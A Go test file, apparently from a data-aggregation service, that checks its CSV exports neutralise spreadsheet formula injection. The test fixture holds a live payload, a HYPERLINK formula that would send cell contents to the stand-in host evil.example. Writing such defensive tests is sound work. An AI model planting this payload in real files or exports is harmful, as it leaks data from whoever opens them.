package aggregator_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/wisp-project/wisp/aggregator"
	"github.com/wisp-project/wisp/internal/campaign"
	"github.com/wisp-project/wisp/internal/wire"
)

// The tests in this file reproduce the attacks of issue 15 against a real
// server on 127.0.0.1, one per row.

// TestCSVFormulaInjection (row 6): a marketer names a campaign
// =HYPERLINK(…); whoever opens the CSV export in a spreadsheet must see
// text, not a live formula. Every text cell starting with = + - @ tab or CR
// gets a ' prefix (OWASP, CSV injection).
func TestCSVFormulaInjection(t *testing.T) {
	f := newFixture(t, func(c *aggregator.Config) { c.Policy.MinK = 1 })
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	c := campaign.Campaign{ID: "evil", Name: evil, Question: campaign.Question{Type: "threshold", Category: 410, MinScore: 0.5},
		Epsilon: 1, EpochSeconds: 3600, K: 1}
	if _, err := f.agg.CreateCampaign(ctx, c, "acme"); err != nil {
		t.Fatal(err)
	}
	f.campaign = c
	var batch []wire.Envelope
	for i := range 3 {
		batch = append(batch, f.report(t, i == 0))
	}
	f.upload(t, batch...)
	f.closeEpoch()
	f.releaseDue(t)
	for _, path := range []string{"/v1/campaigns/evil/results?format=csv", "/v1/segments?format=csv"} {
		status, body := f.do(t, "GET", path, f.operator, nil)
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if status != http.StatusOK || err != nil {
			t.Fatalf("%s: %d %v", path, status, err)
		}
		found := false
		for _, row := range rows[1:] {
			if row[0] != "evil" {
				continue
			}
			found = true
			if row[1] != "'"+evil {
				t.Errorf("%s: name cell %q, want it prefixed with '", path, row[1])
			}
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %d %q starts a formula", path, i, cell)
				}
			}
		}
		if !found {
			t.Fatalf("%s: no row for the campaign: %s", path, body)
		}
	}
}
